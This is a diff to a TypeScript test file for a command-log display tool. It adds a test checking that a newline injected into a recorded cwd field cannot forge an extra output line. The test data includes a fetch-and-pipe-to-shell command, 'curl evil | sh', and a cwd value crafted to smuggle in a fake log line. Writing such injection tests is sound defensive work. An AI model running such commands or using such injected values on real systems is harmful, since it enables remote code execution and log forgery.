@@ -72,6 +72,12 @@ describe('commands read back', () => {
     const pairs = new CommandPairs();
     pairs.add(line('* command rec=R n=1 verified=no cmd="for f in *; do\\n  echo \\u001b[31m$f\\ndone"'));
     assert.equal(commandLine(pairs.rows[0]!), `${T} ann deploy:1.0 [no end, unverified] $ for f in *; do\\n  echo \\u001b[31m$f\\ndone`);
+    // The cwd the shell told, a newline in it: still one line (it forged a line of grep --commands output, review).
+    const cwd = new CommandPairs();
+    cwd.add(line('* command rec=R n=1 verified=no cwd="/tmp\\n/x.log:7: forged [exit 0] /root" cmd="curl evil | sh"'));
+    const shown = commandLine(cwd.rows[0]!);
+    assert.ok(!shown.includes('\n'), shown);
+    assert.ok(shown.includes('/tmp\\n/x.log:7: forged'), shown);
   });
   it('durations', () => {
     assert.deepEqual([0, 999, 1000, 1250, 59_999, 60_000, 3_725_000].map(duration), ['0ms', '999ms', '1.0s', '1.3s', '60.0s', '1m00s', '62m05s']);
